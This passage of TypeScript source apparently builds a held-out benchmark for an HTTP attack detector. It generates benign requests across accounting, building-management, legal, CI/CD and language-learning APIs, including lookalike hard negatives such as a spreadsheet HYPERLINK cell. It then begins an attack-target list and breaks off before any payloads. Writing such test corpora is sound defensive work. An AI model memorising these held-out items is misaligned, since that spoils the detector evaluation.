        text: `INVOICE #INV-2026-${int(1000, 9999)}\nDate: ${date()}    Due: Net 30\nBill To: ${pick(NAMES)}\n${pick(STREETS)}, ${pick(CITIES)}\n\nQty  Description                  Unit Price   Amount\n2    Widget (5' x 3') - blue      $19.99       $39.98\n1    Setup fee / on-site (2 hrs)  $150.00      $150.00\n     Discount -10%                             -$18.99\n                               Subtotal:    $170.99\n                               Tax (8.25%):  $14.11\n                               TOTAL DUE:   $185.10\nPay by ACH: Routing 021000021 Acct ****6789\nQuestions? billing@vendor.example -- thank you!`,
        fields: { total: '185.10', currency: 'USD', vendor: 'Widgets & Co.' },
      });
    case 3:
      return get(
        'rest-get',
        `${api}/ledger?account=${pick(['1200', '4000', '6100'])}&from=${date()}&to=${date()}&filter[amount][gte]=${int(100, 5000)}&filter[status]=posted&sort=-date,id&include=attachments,contact`,
      );
    case 4:
      return json('rest-write', 'POST', `${api}/bank-rules`, {
        rule: {
          name: pick(['Stripe payouts → Clearing', 'AWS & GCP → 6400 Software', 'Owner draws']),
          conditions: [
            {
              field: 'description',
              op: pick(['contains', 'starts_with', 'regex']),
              value: pick(['STRIPE', '^(AWS|GOOGLE \\*CLOUD)', 'ZELLE TO']),
            },
            { field: 'amount', op: '<', value: -50 },
          ],
          match: 'all',
          actions: [
            { set: 'account', value: '6400' },
            { set: 'memo', value: 'Auto-categorized (rule #${id})' },
          ],
        },
      });
    case 5:
      return multipart(`${api}/imports/csv`, [
        {
          name: 'mapping',
          content: JSON.stringify({ date: 'Date', amount: 'Amount', description: 'Payee / Memo' }),
        },
        {
          name: 'file',
          filename: 'export (3).csv',
          type: 'text/csv',
          content: `Date,Amount,"Payee / Memo"\n${date()},-42.10,"SQ *BLUE BOTTLE, Oakland"\n${date()},1200.00,"Invoice 1042 = paid; thanks!"\n${date()},-9.99,"=HYPERLINK(""https://support.example.com"",""Spotify"")"`,
        },
      ]);
    case 6:
      return gql(
        '/graphql',
        'mutation ApproveBill($id: ID!, $input: ApprovalInput!) { approveBill(id: $id, input: $input) { bill { id status approvedBy { email } } errors { field message } } }',
        {
          id: `bill_${alnum(10)}`,
          input: {
            comment: pick([
              'OK to pay — matches PO #7781',
              'Approved; split 60/40 between depts 10 & 20',
              '',
            ]),
            scheduledFor: date(),
          },
        },
        'ApproveBill',
      );
    case 7:
      return json(
        'jsonapi',
        'PATCH',
        `${api}/invoices/${int(1000, 9999)}`,
        {
          data: {
            type: 'invoices',
            id: String(int(1000, 9999)),
            attributes: {
              status: pick(['sent', 'void', 'paid']),
              notes: 'Net 30. Late fee 1.5%/mo. Remit to: Acme Ltd., IBAN DE89 3704 0044 0532 0130 00',
            },
          },
        },
        'application/vnd.api+json',
      );
    case 8:
      return del(`${api}/journal-entries/${uuid()}?reason=${enc('duplicate import')}`);
    case 9:
      return form('/oauth/token', {
        grant_type: 'authorization_code',
        code: alnum(43),
        redirect_uri: 'https://app.books.example/callback/bank',
        client_id: alnum(20),
        code_verifier: alnum(64),
      });
    default:
      return get(
        'search',
        `${api}/search?q=${enc(pick(['amount:>1000 vendor:"AWS"', 'memo:"reclass" OR memo:reversal', '"O\'Brien Plumbing"', 'invoice #1042', 'unreconciled AND date<2026-10-01']))}&types=transaction,bill,invoice`,
      );
  }
}

/* ------------------------------------------------------------------ 5. IoT building */

function building(i: number): Req {
  const api = '/bms/api/v3';
  const site = pick(['HQ-SF', 'DUB-02', 'BER-Campus', 'NYC-1WTC-F64']);
  switch (i % 11) {
    case 0:
      return json('rest-write', 'POST', `${api}/sites/${site}/rules`, {
        rule: {
          name: pick(['After-hours setback', 'CO2 high → boost OA damper', 'Freeze-stat protection AHU-3']),
          when: pick([
            'zone.temp > 26 && occupancy == true',
            "co2_ppm >= 1000 || (voc > 300 && schedule != 'unoccupied')",
            'oat < 2.0 and ahu3.sat < 5',
          ]),
          for_minutes: int(1, 15),
          actions: [
            { action: 'write', point: `${site}/AHU-${int(1, 6)}/SAT-SP`, value: int(12, 24), priority: 8 },
            { action: 'notify', channel: pick(['email', 'sms', 'teams']), to: email() },
          ],
          enabled: true,
        },
      });
    case 1:
      return ndjson(
        `${api}/telemetry`,
        Array.from({ length: int(4, 10) }, () => ({
          ts: ts(),
          device: `bacnet:${int(1000, 9999)}`,
          object: `${pick(['analog-input', 'binary-value', 'analog-value'])},${int(1, 120)}`,
          name: pick(['RAT', 'SAT', 'ZN-T', 'CO2', 'FAN-S', 'VLV-CMD']),
          value: Number((rng() * 40).toFixed(2)),
          status_flags: '0000',
        })),
      );
    case 2:
      return json(
        'merge-patch',
        'PATCH',
        `${api}/alarms/ALM-${int(10000, 99999)}`,
        {
          state: pick(['acknowledged', 'shelved', 'cleared']),
          ack_note: pick([
            'On it — tech dispatched (ETA 30m)',
            'False alarm: sensor unplugged during cleaning',
            'Shelved 4h; vendor replacing VFD on 11/30',
          ]),
          shelved_until: rng() < 0.4 ? ts() : null,
        },
        'application/merge-patch+json',
      );
    case 3:
      return json('cms-html', 'POST', `${api}/tickets`, {
        ticket: {
          title: pick([
            'Leak under sink – 3rd fl. kitchenette',
            'AHU-3 belt squealing',
            'Elevator #2 out of service',
            'Too cold in conf. room "Everest"',
          ]),
          priority: pick(['P1', 'P2', 'P3']),
          location: { site, floor: int(1, 40), room: pick(['3.14', 'B-022', 'Everest', 'MDF']) },
          description_html: `<p>Reported by <a href="mailto:${email()}">front desk</a> at ${pad(int(7, 19))}:${pad(int(0, 59))}.</p><ol><li>Shut isolation valve</li><li>Placed <b>wet floor</b> sign</li></ol><p><img src="https://files.bms.example/t/${hex(16)}.jpg" alt="photo" width="480"></p>`,
          notes: pick([
            'Replaced filter in AHU-3; belt worn — order part #B-54 (2x)',
            'Controller reset via /dev/ttyUSB0; fw 4.2.1 → 4.3.0',
            'Tenant says temp "unbearable" >27°C since Monday',
          ]),
          reporter: pick(NAMES),
        },
      });
    case 4:
      return get(
        'rest-get',
        `${api}/points?site=${enc(site)}&floor=${int(1, 40)}&type=AI,AV&name=${enc(pick(['*RAT*', 'VAV-3??-ZN-T', 'AHU-1/*']))}&tags=${enc('hvac,temp,sensor')}&limit=200`,
      );
    case 5:
      return json(
        'code',
        'PUT',
        `${api}/sites/${site}/scripts/${pick(['night_purge', 'optimal_start', 'chiller_staging'])}`,
        {
          script: {
            language: pick(['lua', 'javascript']),
            source: `-- optimal start\nlocal oat = read("OAT")\nlocal zt = read("ZN-T")\nif oat < 5 and zt < 18 then\n  write("AHU-1/SS", 1, 10)\n  log("early start: oat=" .. oat .. " zt=" .. zt)\nelseif os.date("%H") == "06" then\n  write("AHU-1/SS", 1, 10)\nend\nreturn { ok = true }`,
            schedule: '*/5 5-8 * * 1-5',
          },
        },
      );
    case 6:
      return multipart(`${api}/devices/${uuid()}/firmware`, [
        { name: 'version', content: `4.${int(0, 9)}.${int(0, 20)}` },
        { name: 'sha256', content: hex(64) },
        {
          name: 'image',
          filename: `jace-8000_${int(4, 5)}.${int(0, 9)}.bin`,
          type: 'application/octet-stream',
          content: b64(alnum(300)),
        },
      ]);
    case 7:
      return gql(
        '/bms/graphql',
        'query Floor($site: String!, $floor: Int!) { site(code: $site) { floor(n: $floor) { zones { id name temp { value unit } setpoint occupancy alarms(active: true) { id severity message } } } } }',
        { site, floor: int(1, 40) },
        'Floor',
      );
    case 8:
      return json('rest-write', 'POST', `${api}/work-orders/${int(1000, 9999)}/time`, {
        technician: pick(NAMES),
        minutes: int(15, 240),
        parts: [{ sku: 'FLT-20x25x2-MERV13', qty: int(1, 12) }],
        comment: pick([
          'Swapped filters & cleaned coil; ΔP now 0.4" w.c.',
          'Waited 45 min for access badge :(',
          'Checked 24VAC at transformer — OK.',
        ]),
      });
    case 9:
      return del(`${api}/schedules/${uuid()}/exceptions/${date()}`);
    default:
      return form('/bms/visitor/checkin', {
        name: pick(NAMES),
        company: pick(['Otis Elevator', 'ACME HVAC Svc.', 'Johnson & Sons']),
        host: email(),
        badge: `V-${int(100, 999)}`,
        purpose: 'Maintenance – elevator #2',
      });
  }
}

/* ------------------------------------------------------------------ 6. legal */

const DOCKET = [
  'MOTION to Dismiss for Failure to State a Claim pursuant to Fed. R. Civ. P. 12(b)(6) by Acme Corp. (Attachments: # 1 Exhibit A, # 2 Proposed Order)(Smith, John) (Entered: 03/14/2026)',
  'ORDER granting in part and denying in part [42] Motion to Compel. Signed by Magistrate Judge A. B. Chen on 5/2/2026. (lmc)',
  "NOTICE of Appearance by Siobhan O'Connor on behalf of Union Pacific Railroad Co. (O'Connor, Siobhan) (Entered: 06/01/2026)",
  'STIPULATION and [Proposed] Order to Extend Time to Answer or Otherwise Respond to Complaint -- (re: [1] Complaint) filed by Doe Holdings, LLC.',
  "MEMORANDUM OPINION AND ORDER: for the reasons stated, Defendants' motion (Dkt. No. 57) is DENIED. The Clerk shall select a date for the status conference.",
];
const NARRATIVES = [
  "Review and revise draft SPA; t/c w/ client re: indemnification cap; email to opposing counsel (O'Brien)",
  'Legal research re: whether § 1983 claim survives where the defendant acted "under color of" state law; draft memo',
  'Prepare for and attend deposition of J. Doe (4.5 hrs); review exhibits 12–31',
  'Draft privilege log entries; select documents for production (Bates ACME-000123 – ACME-000457)',
  'Konferenzgespräch mit Mandant wg. Vergleichsangebot (€ 250.000); Entwurf Schriftsatz',
  'Rédaction des conclusions d’appel ; échange avec le confrère sur le calendrier de procédure',
];

function legal(i: number): Req {
  const matter = `${int(2019, 2026)}-${pick(['LIT', 'CORP', 'IP', 'EMP'])}-${int(100, 999)}`;
  const api = '/cases/api';
  switch (i % 11) {
    case 0:
      return json('rest-write', 'POST', `${api}/matters/${matter}/docket`, {
        entry: {
          number: int(1, 240),
          filed_at: ts(),
          court: pick(['N.D. Cal.', 'S.D.N.Y.', 'D. Del.', 'LG München I']),
          case_no: `${int(1, 5)}:${int(20, 26)}-cv-${int(1000, 9999)}-${pick(['JST', 'AB', 'VC'])}`,
          text: pick(DOCKET),
          source: 'PACER RSS',
        },
      });
    case 1:
      return json('rest-write', 'POST', `${api}/time-entries`, {
        time_entry: {
          matter_id: matter,
          timekeeper: pick(['JS', 'SOC', 'AMR', 'KT']),
          date: date(),
          hours: pick([0.1, 0.3, 0.5, 1.2, 2.0, 4.5]),
          task_code: pick(['L110', 'L120', 'L310', 'A103']),
          activity_code: pick(['A101', 'A104']),
          narrative: pick(NARRATIVES),
          billable: rng() < 0.85,
        },
      });
    case 2:
      return json('cms-html', 'PUT', `${api}/matters/${matter}/filings/${int(1, 300)}`, {
        filing: {
          title: pick([
            "Plaintiff's Opposition to Motion to Dismiss",
            'Reply Brief in Support of Summary Judgment',
            'Schriftsatz vom 14.03.2026',
          ]),
          excerpt_html: `<p>Under <i>Ashcroft v. Iqbal</i>, 556 U.S. 662, 678 (2009), a complaint must contain &ldquo;sufficient factual matter, accepted as true, to &lsquo;state a claim to relief that is plausible on its face.&rsquo;&rdquo;</p><blockquote>“Where a complaint pleads facts that are ‘merely consistent with’ a defendant’s liability, it ‘stops short of the line…’”</blockquote><p>See also <a href="https://www.courtlistener.com/?q=%22Twombly%22">Twombly</a>, 550 U.S. at 570; <u>Dkt. 57</u> at 4–6.</p>`,
          pages: int(3, 40),
        },
      });
    case 3:
      return get(
        'search',
        `${api}/conflicts?q=${enc(pick(['name:"O\'Reilly" OR "Acme & Sons, LLC"', 'Müller GmbH', '"Doe Holdings" AND (parent OR subsidiary)', 'Union Pacific', 'Nguyễn']))}&include_former_clients=true&fuzzy=0.8`,
      );
    case 4:
      return multipart(`${api}/matters/${matter}/documents`, [
        {
          name: 'title',
          content: pick([
            'Exhibit A – Master Services Agreement (executed)',
            'Letter to Judge Chen re: discovery dispute',
            'Vollmacht',
          ]),
        },
        { name: 'privileged', content: rng() < 0.5 ? 'true' : 'false' },
        { name: 'tags', content: 'discovery,exhibit' },
        { name: 'file', filename: `${matter}_Ex_A.pdf`, type: 'application/pdf', content: fakePdf() },
      ]);
    case 5:
      return gql(
        '/cases/graphql',
        'query Deadlines($from: Date!, $to: Date!, $attorney: ID) { deadlines(from: $from, to: $to, attorney: $attorney) { id dueAt rule description matter { number caption } } }',
        { from: date(), to: date(), attorney: rng() < 0.5 ? `atty_${alnum(6)}` : null },
        'Deadlines',
      );
    case 6:
      return json('prose', 'POST', `${api}/matters/${matter}/notes`, {
        note: {
          body: pick([
            'Client called: wants to settle if < $250k. Said "we\'re not going to trial over this." Follow up w/ CFO re: insurance coverage.',
            '**Strategy**: (1) move to compel; (2) if denied, seek protective order; (3) depose custodian. _Privileged & confidential — attorney work product._',
            'Der Mandant wünscht, dass wir die Frist zur Stellungnahme (§ 276 ZPO) ausschöpfen.',
            'Opposing counsel agreed to a 14-day extension; confirm by email & file stipulation by Fri.',
          ]),
          visibility: pick(['team', 'private']),
        },
      });
    case 7:
      return json(
        'json-patch',
        'PATCH',
        `${api}/matters/${matter}`,
        [
          { op: 'replace', path: '/status', value: pick(['open', 'stayed', 'closed']) },
          {
            op: 'add',
            path: '/parties/-',
            value: {
              name: pick(['Acme & Sons, LLC', 'Doe Holdings, LLC', 'Müller GmbH']),
              role: 'defendant',
            },
          },
        ],
        'application/json-patch+json',
      );
    case 8:
      return json('rest-write', 'POST', `${api}/emails/ingest`, {
        message: {
          from: `"${pick(NAMES)}" <${email()}>`,
          to: [email()],
          subject: `RE: ${matter} – ${pick(['Draft settlement agreement', 'Deposition schedule', 'Privilege log (v3)'])}`,
          body_text: `Counsel,\n\nPlease see attached. Paragraph 4(b) should read "shall not exceed $1,000,000". Let me know by EOD.\n\n> On ${date()}, J. Smith wrote:\n> Fine with the remaining edits.\n\nBest,\n--\nSiobhan O'Connor | Partner\nT: +1 415 555 0100`,
          message_id: `<${hex(16)}@mail.firm-law.example>`,
        },
      });
    case 9:
      return del(`${api}/time-entries/${int(10000, 99999)}`);
    default:
      return get(
        'rest-get',
        `${api}/matters?status=open&practice_area=${pick(['litigation', 'ip', 'm&a'])}&responsible=${pick(['JS', 'SOC'])}&opened_after=${date()}&sort=-opened_at&page=${int(1, 9)}`,
      );
  }
}

/* ------------------------------------------------------------------ 7. CI/CD */

const LOG_LINES = [
  '$ npm ci --no-audit --prefer-offline',
  'added 1284 packages in 41s',
  '$ rm -rf dist && tsc -p tsconfig.build.json',
  "src/api/user.ts(42,13): error TS2345: Argument of type 'string | undefined' is not assignable to parameter of type 'string'.",
  '$ docker build -t registry.example.com/team/api:$CI_COMMIT_SHORT_SHA --build-arg NODE_ENV=production .',
  'Step 7/12 : RUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates && rm -rf /var/lib/apt/lists/*',
  '  ✓ GET /users/:id returns 404 for unknown id (12 ms)',
  '  ✕ POST /orders rejects negative qty (31 ms)',
  '    AssertionError [ERR_ASSERTION]: Expected values to be strictly equal:\n+ actual - expected\n\n+ 500\n- 400\n    at TestContext.<anonymous> (/builds/app/test/orders.test.ts:88:12)',
  "WARNING: The requested image's platform (linux/amd64) does not match the detected host platform (linux/arm64/v8)",
  'Uploading artifacts... coverage/lcov.info: found 1 matching artifact files and directories',
  'Job succeeded',
];

function cicd(i: number): Req {
  const proj = int(100, 9999);
  const api = `/ci/api/v4/projects/${proj}`;
  switch (i % 12) {
    case 0:
      return json('code', 'PUT', `${api}/pipeline-config`, {
        pipeline: {
          branch: pick(['main', 'develop', 'release/2.3']),
          yaml: `stages: [build, test, deploy]\nvariables:\n  NODE_VERSION: "24"\nbuild:\n  stage: build\n  image: node:\${NODE_VERSION}-alpine\n  script:\n    - npm ci\n    - npm run build\n  artifacts:\n    paths: [dist/]\ntest:\n  stage: test\n  script:\n    - npm test -- --reporter=junit > junit.xml || true\n  artifacts:\n    reports: { junit: junit.xml }\ndeploy:\n  stage: deploy\n  when: manual\n  script:\n    - curl -sSfL https://get.helm.sh/helm-v3.16.2-linux-amd64.tar.gz | tar xz -C /tmp\n    - /tmp/linux-amd64/helm upgrade --install api ./charts/api --set image.tag=$CI_COMMIT_SHA\n  rules:\n    - if: '$CI_COMMIT_BRANCH == "main"'`,
          commit_message: pick([
            'ci: cache node_modules',
            'ci: add manual deploy gate',
            'fix(ci): quote $CI_COMMIT_BRANCH',
          ]),
        },
      });
    case 1:
      return ndjson(
        `${api}/jobs/${int(100000, 999999)}/trace`,
        Array.from({ length: int(4, 8) }, (_, n) => ({
          seq: n,
          ts: ts(),
          stream: pick(['stdout', 'stdout', 'stderr']),
          line: pick(LOG_LINES),
        })),
      );
    case 2:
      return json('rest-write', 'POST', `${api}/test-reports`, {
        report: {
          format: 'junit',
          suite: pick(['api-integration', 'unit', 'e2e-playwright']),
          tests: int(50, 900),
          failures: int(0, 4),
          cases: [
            {
              name: 'POST /orders rejects negative qty',
              time: 0.031,
              status: 'failed',
              message:
                'Expected 400, received 500\n    at Object.<anonymous> (/builds/app/test/orders.test.ts:88:12)\n    at processTicksAndRejections (node:internal/process/task_queues:95:5)',
            },
            { name: 'GET /users/:id returns 404 for unknown id', time: 0.012, status: 'passed' },
            {
              name: "renders 'Add to cart' when stock > 0",
              time: 1.204,
              status: pick(['passed', 'skipped']),
            },
          ],
        },
      });
    case 3:
      return json('rest-write', 'POST', `${api}/deployments`, {
        deployment: {
          environment: pick(['staging', 'production', 'review/feat-checkout']),
          ref: `v2.${int(0, 9)}.${int(0, 30)}`,
          sha: hex(40),
          command: pick([
            'helm upgrade --install api ./charts/api -f values-prod.yaml --set image.tag=v2.3.1 --atomic --timeout 10m',
            'kubectl rollout status deploy/api -n prod --timeout=300s',
            'terraform apply -auto-approve -var="image_tag=v2.3.1" -target=module.api',
          ]),
          description: 'Release 2.3.1 — fixes #1421 (race in cart merge) & bumps undici',
        },
      });
    case 4:
      return get(
        'rest-get',
        `${api}/jobs?scope[]=failed&scope[]=canceled&per_page=50&page=${int(1, 4)}&ref=${enc(pick(['main', 'feature/JIRA-123-oauth', 'dependabot/npm_and_yarn/undici-7.16.0']))}`,
      );
    case 5:
      return json('code', 'POST', '/ci/api/v4/snippets', {
        snippet: {
          title: pick(['retry helper', 'bash: wait for postgres', 'Dockerfile multi-stage']),
          visibility: 'internal',
          file_name: pick(['retry.ts', 'wait-for-db.sh', 'Dockerfile']),
          source: pick([
            'export async function retry<T>(fn: () => Promise<T>, n = 3): Promise<T> {\n  for (let i = 0; ; i++) {\n    try { return await fn(); } catch (e) { if (i >= n) throw e; await new Promise(r => setTimeout(r, 2 ** i * 100)); }\n  }\n}',
            '#!/usr/bin/env bash\nset -euo pipefail\nuntil pg_isready -h "${PGHOST:-localhost}" -U postgres; do\n  echo "waiting for db..." >&2; sleep 1\ndone\npsql -c "SELECT 1" >/dev/null && echo ready',
            'FROM node:24-alpine AS build\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci\nCOPY . .\nRUN npm run build\n\nFROM gcr.io/distroless/nodejs24\nCOPY --from=build /app/dist /app\nCMD ["/app/server.js"]',
          ]),
        },
      });
    case 6:
      return json(
        'rest-write',
        'POST',
        '/ci/hooks/github',
        {
          ref: 'refs/heads/main',
          before: hex(40),
          after: hex(40),
          repository: { full_name: 'acme/api', html_url: 'https://github.com/acme/api' },
          pusher: { name: 'octocat', email: 'octocat@users.noreply.github.com' },
          head_commit: {
            id: hex(40),
            message: pick([
              'Merge pull request #1421 from acme/fix/cart-race\n\nfix: lock cart rows (SELECT ... FOR UPDATE)',
              'chore(deps): bump undici from 7.15.0 to 7.16.0',
              'docs: explain `--dry-run` & ${VAR} interpolation',
            ]),
            timestamp: ts(),
            modified: ['src/cart/merge.ts', 'test/cart.test.ts'],
          },
        },
        'application/json',
      );
    case 7:
      return json(
        'merge-patch',
        'PATCH',
        `${api}/variables/${pick(['DATABASE_URL', 'SENTRY_DSN', 'NPM_TOKEN'])}`,
        {
          value: pick([
            `postgres://app:${alnum(20)}@db.internal:5432/app?sslmode=require`,
            `https://${hex(32)}@o${int(1000, 9999)}.ingest.sentry.io/${int(100000, 999999)}`,
            `npm_${alnum(36)}`,
          ]),
          masked: true,
          protected: true,
        },
        'application/merge-patch+json',
      );
    case 8:
      return gql(
        '/ci/graphql',
        'query Pipeline($fullPath: ID!, $iid: ID!) { project(fullPath: $fullPath) { pipeline(iid: $iid) { status duration stages { nodes { name groups { nodes { name jobs { nodes { name status } } } } } } } } }',
        { fullPath: 'acme/api', iid: String(int(1, 9000)) },
        'Pipeline',
      );
    case 9:
      return multipart(
        `${api}/packages/generic/api/${int(1, 3)}.${int(0, 9)}.${int(0, 9)}/api.tar.gz`,
        [
          { name: 'file', filename: 'api.tar.gz', type: 'application/gzip', content: b64(alnum(240)) },
          { name: 'sha256', content: hex(64) },
        ],
        'PUT',
      );
    case 10:
      return del(`${api}/pipelines/${int(100000, 999999)}`);
    default:
      return form(`${api}/trigger/pipeline`, {
        token: `glptt-${alnum(20)}`,
        ref: 'main',
        'variables[DEPLOY_ENV]': 'staging',
        'variables[SKIP_E2E]': 'true',
      });
  }
}

/* ------------------------------------------------------------------ 8. language learning */

const EXERCISES = [
  { lang: 'fr', prompt: "Je voudrais un café, s'il vous plaît.", answer: 'I would like a coffee, please.' },
  { lang: 'es', prompt: 'Ojalá que llueva mañana.', answer: 'I hope it rains tomorrow.' },
  {
    lang: 'de',
    prompt: 'Ich habe keine Zeit, weil ich arbeiten muss.',
    answer: "I don't have time because I have to work.",
  },
  { lang: 'ja', prompt: '駅はどこですか？', answer: 'Where is the station?' },
  { lang: 'ru', prompt: 'Мне нравится читать книги.', answer: 'I like reading books.' },
  { lang: 'ar', prompt: 'أين المكتبة؟', answer: 'Where is the library?' },
  { lang: 'pt', prompt: 'Não sei se ele vem hoje à noite.', answer: "I don't know if he's coming tonight." },
  { lang: 'ko', prompt: '이것은 얼마예요?', answer: 'How much is this?' },
];
const USER_ANSWERS = [
  'I would like one coffee please',
  'i hope it rain tomorow',
  "I don't have the time, because I must work",
  'where is station',
  'I like to read books!!',
  'Where is library?',
  'Je voudrais un café s’il vous plait',
  'ojala que llueve mañana',
];

function language(i: number): Req {
  const ex = pick(EXERCISES);
  const api = '/learn/api/v2';
  switch (i % 11) {
    case 0:
      return json('cms-html', 'POST', `${api}/exercises`, {
        exercise: {
          type: pick(['translate', 'fill_blank', 'listen_type']),
          course: `${ex.lang}-en`,
          level: pick(['A1', 'A2', 'B1', 'B2']),
          prompt: ex.prompt,
          answers: [ex.answer, ex.answer.replace(/\.$/, '')],
          explanation_html: `<p>In <strong>${ex.lang.toUpperCase()}</strong>, the conditional <em>je voudrais</em> is the polite form of <em>je veux</em>.</p><ul><li><code>vouloir</code> → <code>voudr-</code> + <code>-ais</code></li><li>Compare: <span lang="es">quisiera</span>, <span lang="de">ich möchte</span></li></ul><p><audio src="https://cdn.learn.example/audio/${hex(12)}.mp3" controls></audio></p>`,
          tags: ['politeness', 'conditional', 'café'],
        },
      });
    case 1:
      return json('rest-write', 'POST', `${api}/answers`, {
        answer: {
          exercise_id: uuid(),
          text: pick(USER_ANSWERS),
          time_ms: int(2000, 45000),
          hints_used: int(0, 2),
          device: pick(['ios', 'android', 'web']),
        },
      });
    case 2:
      return json('prose', 'POST', `${api}/forum/threads/${int(1000, 99999)}/posts`, {
        post: {
          body: pick([
            'Why is it "la mer" but "le mère" is wrong?? I keep mixing up genders — any tricks? 😅',
            '¿Cuándo se usa "por" y cuándo "para"? Ej.: "Gracias por todo" vs "Esto es para ti".',
            'Pro tip: the て-form of 行く is 行って, not 行いて — it’s the one exception!',
            'In Russian, "читать" (impf.) vs "прочитать" (pf.) — aspect is the hardest part for me.',
            'I think the answer "I like to read books" should be accepted too. Reported it; #bug?',
            'Kann jemand den Unterschied zwischen "seit" und "seid" erklären? Ich verwechsle die immer :/',
            "Report: the audio for lesson 12 says 'ojalá' with stress on the first syllable, should be o-ja-LÁ.",
          ]),
          markdown: true,
        },
      });
    case 3:
      return get(
        'rest-get',
        `${api}/lessons?lang=${ex.lang}&level=${pick(['A1', 'A2', 'B1'])}&tags=${enc(pick(['subjunctive,por|para', 'て-form', 'genitive case', 'ser/estar']))}&sort=order&fields[lesson]=id,title,xp`,
      );
    case 4:
      return multipart(`${api}/pronunciation/attempts`, [
        { name: 'exercise_id', content: uuid() },
        {
          name: 'target_ipa',
          content: pick([
            '/ʒə vu.dʁɛ œ̃ ka.fe/',
            '/oˈxa.la ke ˈʎwe.βa/',
            '/eki wa doko desu ka/',
            '/mʲnʲe nrɐˈvʲitsə/',
          ]),
        },
        {
          name: 'audio',
          filename: 'attempt.webm',
          type: 'audio/webm;codecs=opus',
          content: `\u001aE\u00df\u00a3${alnum(260)}`,
        },
      ]);
    case 5:
      return json(
        'rest-write',
        'PUT',
        `${api}/grammar/${pick(['subjunctive-present', 'te-form', 'dative-prepositions'])}`,
        {
          article: {
            title: pick([
              'The present subjunctive (el presente de subjuntivo)',
              'て-form conjugation',
              'Dativpräpositionen',
            ]),
            body_markdown: `## When to use it\n\nUse the subjunctive after **WEIRDO** triggers: *Wishes, Emotions, Impersonal expressions, Recommendations, Doubt, Ojalá*.\n\n| Infinitive | yo | tú |\n|---|---|---|\n| hablar | hable | hables |\n| tener | tenga | tengas |\n\n> Tip: *quiero que vengas* ≠ *quiero venir*.\n\nSee [RAE](https://www.rae.es/dpd/subjuntivo) for details.`,
            pronunciation_notes: 'Stress: o-ja-LÁ; "ll" = /ʝ/ or /ʎ/ depending on region (yeísmo).',
          },
        },
      );
    case 6:
      return gql(
        '/learn/graphql',
        'query Progress($userId: ID!, $course: String!) { user(id: $userId) { streak xp(course: $course) skills(course: $course) { id name strength lastPracticed } } }',
        { userId: `u_${alnum(10)}`, course: `${ex.lang}-en` },
        'Progress',
      );
    case 7:
      return ndjson(
        `${api}/events`,
        Array.from({ length: int(3, 7) }, () => ({
          event: pick(['lesson_start', 'answer_submit', 'heart_lost', 'lesson_complete']),
          ts: ts(),
          lesson: `L${int(1, 80)}`,
          correct: rng() < 0.7,
          answer: pick(USER_ANSWERS),
        })),
      );
    case 8:
      return json(
        'merge-patch',
        'PATCH',
        `${api}/me/settings`,
        {
          daily_goal_xp: pick([10, 20, 50]),
          ui_language: pick(['en', 'es', 'fr', 'ja']),
          reminder: {
            time: `${pad(int(6, 22))}:00`,
            tz: pick(['Europe/Madrid', 'Asia/Tokyo', 'America/Sao_Paulo']),
          },
          display_name: pick(NAMES),
        },
        'application/merge-patch+json',
      );
    case 9:
      return get(
        'search',
        `${api}/dictionary?q=${enc(pick(['voudrais', 'ojalá', '行って', 'читать', 'weil ... muss', '"por favor"']))}&from=${ex.lang}&to=en&inflections=true`,
      );
    default:
      return del(`${api}/me/saved-words/${int(1, 99999)}`);
  }
}

/* ------------------------------------------------------------------ clean assembly */

const DOMAIN_GENS = [pharmacy, adtech, museum, accounting, building, legal, cicd, language] as const;
const clean: CorpusRequest[] = [];
for (let round = 0; round < 57; round++) {
  for (const gen of DOMAIN_GENS) {
    if (clean.length >= 452) break;
    clean.push({ id: `h20c${clean.length + 1}`, ...gen(round) });
  }
}

/* ------------------------------------------------------------------ attacks */

/** Fields an operator declares as rich-text HTML or source code; attacks never go there. */
export const HELDOUT20_EXCLUDE_FIELDS: string[] = [
  'body.product.description_html',
  'body.creative.html',
  'body.transcription.html',
  'body.ticket.description_html',
  'body.script.source',
  'body.filing.excerpt_html',
  'body.pipeline.yaml',
  'body.snippet.source',
  'body.exercise.explanation_html',
];

interface Target {
  readonly method: string;
  readonly path: string;
  readonly query: string;
  readonly wrap: (v: Json) => Json;
  readonly gqlQuery: string;
}
const TARGETS: readonly Target[] = [
  {
    method: 'POST',
    path: '/rx/v2/prescriptions',
    query: 'ndc',
    gqlQuery: 'mutation Rx($input: RxInput!) { createPrescription(input: $input) { id } }',
    wrap: (v) => ({
      prescription: {
        patient: { name: 'Ana Ruiz', dob: '1981-02-03' },
        medication: { ndc: '00093-3109-01', sig: v, quantity: 30 },
      },
    }),
  },
  {
    method: 'POST',
    path: '/rx/v2/pharmacist-questions',
    query: 'q',
    gqlQuery: 'mutation Ask($input: QuestionInput!) { ask(input: $input) { id } }',
    wrap: (v) => ({ question: v, preferred_contact: 'email', locale: 'en-US' }),
  },
  {
    method: 'POST',
    path: '/dsp/v1/campaigns',
    query: 'name',
    gqlQuery: 'mutation C($input: CampaignInput!) { createCampaign(input: $input) { id } }',
    wrap: (v) => ({
      campaign: {
        name: 'Q4 Retargeting',
        targeting: { audience: { and: [{ segment: v }] } },
        budget: { daily_micros: 1000000 },
      },
    }),
  },
  {
    method: 'POST',
    path: '/rtb/openrtb2/bid',
    query: 'page',
    gqlQuery: 'query Bid($req: BidRequest!) { bid(req: $req) { price } }',
    wrap: (v) => ({
      id: 'a1b2',
      imp: [{ id: '1', banner: { w: 300, h: 250 } }],
      site: { domain: 'news.example.com', page: v },
      tmax: 120,
    }),
  },
  {
    method: 'PUT',
    path: '/collections/api/objects/1923.44.1',
    query: 'q',
    gqlQuery: 'mutation O($input: ObjectInput!) { updateObject(input: $input) { id } }',
    wrap: (v) => ({
      object: { accession_number: '1923.44.1', provenance: v, titles: [{ lang: 'en', value: 'Astrolabe' }] },
    }),
  },
  {
    method: 'POST',
    path: '/collections/api/objects/1923.44.1/comments',
    query: 'sort',
    gqlQuery: 'mutation Cm($input: CommentInput!) { addComment(input: $input) { id } }',
    wrap: (v) => ({ comment: { body: v, author: 'visitor' } }),
  },
  {
    method: 'POST',
    path: '/ledger/v1/journal-entries',
    query: 'account',
    gqlQuery: 'mutation JE($input: JournalInput!) { postJournal(input: $input) { id } }',
    wrap: (v) => ({
      journal_entry: {
        date: '2026-10-31',
        memo: v,
        lines: [{ account: '6100-Rent', debit: '100.00', credit: '0.00' }],
      },
    }),
  },
  {
    method: 'POST',
    path: '/ledger/v1/bank-rules',
    query: 'filter[vendor]',
